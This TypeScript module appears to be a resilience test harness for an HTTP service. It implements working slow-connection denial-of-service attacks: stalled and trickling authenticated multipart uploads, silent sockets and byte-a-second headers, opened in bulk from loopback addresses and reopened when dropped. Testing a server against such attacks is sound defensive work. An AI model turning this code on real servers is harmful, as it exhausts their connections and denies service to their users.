import { connect, type Socket } from 'node:net';

/** One way to hold a connection without using it. */
export interface Attack {
  readonly name: string;
  /** What is sent at once. `token` is that of one of the attacker's accounts. */
  head(host: string, token: string): string;
  /** What each connection sends every second, or null. */
  readonly trickle: string | null;
}

const BOUNDARY = 'stalled';
const FILE_HEAD =
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="paper.pdf"\r\n` +
  'Content-Type: application/pdf\r\n\r\n%PDF-1.4\n';

function uploadHead(host: string, token: string, announced: number): string {
  return (
    `POST /papers/upload_paper HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n` +
    `Content-Type: multipart/form-data; boundary=${BOUNDARY}\r\nContent-Length: ${announced}\r\n\r\n`
  );
}

export const ATTACKS: readonly Attack[] = [
  {
    name: 'uploads of 50 MB that stop after their first bytes',
    head: (host, token) => uploadHead(host, token, 50_000_000) + FILE_HEAD,
    trickle: null,
  },
  {
    name: 'uploads that bring 100 bytes a second',
    head: (host, token) => uploadHead(host, token, 1_000_000) + FILE_HEAD,
    trickle: 'x'.repeat(100),
  },
  { name: 'connections that say nothing', head: () => '', trickle: null },
  { name: 'headers of a byte a second', head: () => 'GET / HTTP/1.1\r\nX: ', trickle: 'x' },
];

export interface HeldConnections {
  open(): number;
  end(): void;
}

export interface Attacker {
  readonly tokens: readonly string[];
  readonly count: number;
  /** The loopback address from which connection number `n` comes. */
  addressOf(n: number): string;
}

/** How many of the connections that the hub has closed are opened again each second. */
const REOPENED_PER_SECOND = 100;

/** Opens the connections and keeps them until `end`. */
export async function holdConnections(
  origin: string,
  attack: Attack,
  { tokens, count, addressOf }: Attacker,
): Promise<HeldConnections> {
  const { hostname, port, host } = new URL(origin);
  const sockets: (Socket | null)[] = Array.from({ length: count }, () => null);
  const begin = (number: number) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: addressOf(number) });
    sockets[number] = socket;
    socket.on('error', () => undefined);
    socket.once('close', () => (sockets[number] = null));
    socket.resume();
    const opened = new Promise<void>((resolve) => {
      socket.once('connect', resolve);
      socket.once('close', () => resolve());
    });
    const head = attack.head(host, tokens[number % tokens.length] ?? '');
    if (head !== '') socket.write(head);
    return opened;
  };
  // In small groups, so that the backlog of the listening socket does not drop them.
  for (let number = 0; number < count; number += 50)
    await Promise.all(Array.from({ length: Math.min(50, count - number) }, (_, at) => begin(number + at)));
  const timer = setInterval(() => {
    let reopened = 0;
    for (const [number, socket] of sockets.entries()) {
      if (socket === null && reopened < REOPENED_PER_SECOND) {
        reopened += 1;
        void begin(number);
      } else if (attack.trickle !== null && socket?.writable) socket.write(attack.trickle);
    }
  }, 1_000);
  return {
    open: () => sockets.filter((socket) => socket?.readyState === 'open').length,
    end() {
      clearInterval(timer);
      for (const socket of sockets) socket?.destroy();
    },
  };
}
